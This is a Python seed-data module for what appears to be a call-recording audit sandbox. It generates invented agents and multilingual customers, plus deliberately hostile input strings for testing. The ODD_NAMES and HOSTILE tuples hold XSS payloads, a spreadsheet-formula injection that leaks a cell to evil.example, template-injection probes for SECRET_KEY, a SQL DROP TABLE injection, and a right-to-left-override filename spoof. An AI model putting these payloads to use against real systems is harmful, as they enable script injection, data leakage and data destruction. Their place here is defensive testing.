"""The invented people and texts of the seed, with names in several scripts and some hostile texts."""

import random

from auditportal.sandbox.world.account import Agent, Customer, Named

TEAMS = (Named(61, "Claims"), Named(62, "Retail"), Named(63, "Field support"))
PROFILES = (Named(301, "Video"), Named(302, "Chat"))
TAG_GROUPS = (Named(41, "Outcome"), Named(42, "Customer"))
TAGS = (Named(1007, "VIP"), Named(1008, "Complaint"), Named(1009, "Damage shown"), Named(1010, "Call back"))
AGENTS = (
    Agent(5501, "Avery", "Cole", "avery.c", (61, 62)),
    Agent(5502, "Noor", "Hale", "noor.h", (61,), permission=3),
    Agent(5503, "Yael", "Mizrahi", "yael.m", (61,)),
    Agent(5504, "Omar", "Haddad", "omar.h", (62,)),
    Agent(5505, "Ingrid", "Sørensen", "ingrid.s", (62,)),
    Agent(5506, "Mateus", "Duarte", "mateus.d", (63,)),
    Agent(5507, "Priya", "Raman", "priya.r", (63,)),
    Agent(5508, "דנה", "לוי", "dana.l", (63,)),
)


def words(text: str) -> tuple[str, ...]:
    """Return the words of a text."""
    return tuple(text.split())


LATIN = (
    words(
        "Dana Tomas Greta Hugo Ines Jakub Klara Liam Mireille Nils Olga Pavel Quinn Rosa Stefan Tereza Ursula Viktor "
        "Wanda Xavier Ylva Zoë Anaïs Björn Chloé Dušan Élodie François Gülşen Håkan"
    ),
    words(
        "Marlowe Iversen Blom Castellano Dvořák Eriksen Fontaine Grünwald Hartmann Ibarra Jansen Kowalczyk Lindqvist "
        "Moreau Novák O'Brien Petrov Quiñones Rossi Šimić Thompson Ulrich van-der-Berg Weiß Yıldız Zieliński"
    ),
)
HEBREW = (
    words("נועה יובל מיכל אורי תמר איתי שירה דוד רחל עומר"),
    words("כהן לוי מזרחי פרץ ביטון אברהם פרידמן שפירא בן־דוד אזולאי"),
)
ARABIC = (
    words("محمد فاطمة أحمد ليلى يوسف مريم خالد نور سارة عمر"),
    words("الأحمد حداد خوري منصور النجار العلي سليمان داوود ناصر البكري"),
)
SCRIPTS = ((LATIN, "en_US", "1555"), (HEBREW, "he_IL", "97255"), (ARABIC, "ar_AE", "97155"))
WEIGHTS = (62, 24, 14)
FIRST_CUSTOMER = 70_011_001
CUSTOMERS = 220
ODD_NAMES = (
    (None, None),
    ("null", "null,"),
    ("<b>Ms</b>", "O'Hara & Sons"),
    ('=HYPERLINK("https://evil.example")', "Smith"),
    ("Ann", "Müller\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe"),
    ("", "Guest"),
)

GREETINGS = (
    "Video call",
    "Video call",
    "I would like to show you the damage",
    "Can you see the meter reading?",
    "The device blinks red and stops",
    "Identity check for the new contract",
    "Need help with the installation",
    "אשמח להראות לכם את הנזק",
    "שיחת וידאו לאימות זהות",
    "أريد أن أريكم الضرر",
    "مكالمة فيديو",
)
HOSTILE = (
    "<script>alert('message')</script>",
    '"><img src=x onerror=alert(1)>',
    "<p>Hello <b>there</b>,<br>please call me back &amp; thanks</p>",
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "{{ settings.SECRET_KEY }} {% debug %} ${7*7}",
    "'; DROP TABLE recordings_commboxobject; --",
    "a NUL \x00 in the middle",
    "half a pair \ud83d at the end",
    "\N{RIGHT-TO-LEFT OVERRIDE}desrever si siht",
    "A very long message. " * 500,
    "",
)
TALK = (
    ("Hi, can you see me?", "Yes, I see and hear you well."),
    ("One moment, I will turn the camera.", "Please show me the label on the back."),
    ("Is this the right one?", "Exactly that one, thank you."),
    ("What happens next?", "You will get a message within two days."),
    ("תודה רבה", "Thank you, goodbye"),
    ("شكرا جزيلا", "Thank you, goodbye"),
)


def make_customers(dice: random.Random) -> list[Customer]:
    """Return the customers of the seed, unusual ones last."""
    plain = [make_customer(dice, FIRST_CUSTOMER + at) for at in range(CUSTOMERS)]
    odd = [
        Customer(FIRST_CUSTOMER + CUSTOMERS + at, first, last, phone=f"1555019{at:04}")
        for at, (first, last) in enumerate(ODD_NAMES)
    ]
    return plain + odd


def make_customer(dice: random.Random, customer_id: int) -> Customer:
    """Return a customer: a name in one script, and a phone number, an e-mail address or both."""
    (first, last), locale, prefix = dice.choices(SCRIPTS, WEIGHTS)[0]
    phone = f"{prefix}{dice.randrange(10**7):07}" if dice.random() < 0.8 else ""
    email = f"customer.{customer_id % 10_000:04}@example.{dice.choice(('com', 'org', 'net'))}"
    return Customer(
        customer_id,
        dice.choice(first),
        dice.choice(last),
        phone=phone,
        email=email if dice.random() < 0.7 or not phone else "",
        locale=locale,
    )
